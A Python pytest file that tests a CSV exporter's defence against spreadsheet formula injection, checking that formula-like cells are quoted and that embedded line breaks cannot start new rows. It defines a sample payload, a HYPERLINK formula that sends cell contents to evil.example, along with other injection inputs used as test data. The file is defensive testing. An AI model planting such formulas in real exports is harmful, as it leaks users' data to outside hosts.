"""What a stranger wrote is text in a spreadsheet, and never computed."""

from __future__ import annotations

import csv
import io

import pytest

from bivdiff.batch.jobs import Outcome
from bivdiff.batch.report import scores_of
from bivdiff.spreadsheet import csv_of

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"a cube")'


def read(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\n=1", "\t1", "-", "=1"])
def test_text_that_would_be_computed_is_marked_as_text(text):
    assert read(csv_of([["said"], [text]])) == [{"said": f"'{text}"}]


@pytest.mark.parametrize("text", ["\r=1", "a\r=1", "a\r\n=1", 'a",\r=1'])
def test_no_end_of_a_line_in_a_text_begins_a_row(text):
    (row,) = read(csv_of([["said", "end"], [text, "end"]]))
    assert row["end"] == "end"
    assert not row["said"].startswith(("=", "\n"))


@pytest.mark.parametrize("value", ["a cube", "-0.5", "+1e-3", -2, -0.25, "1=1", "'a"])
def test_other_text_and_numbers_stay_as_they_are(value):
    assert read(csv_of([["said"], [value]])) == [{"said": str(value)}]


def test_the_scores_of_a_batch_compute_nothing():
    told = scores_of([
        Outcome("-1+1", "h", "done", scores={"flicker": -0.5}, record={"settings": {"prompt": FORMULA}}),
        Outcome("two", "h", "done", record={"settings": {"prompt": "a cube"}}),
    ])  # fmt: skip
    first, second = read(told)
    assert (first["id"], first["prompt"], first["flicker"]) == ("'-1+1", f"'{FORMULA}", "-0.5")
    assert second["prompt"] == "a cube"
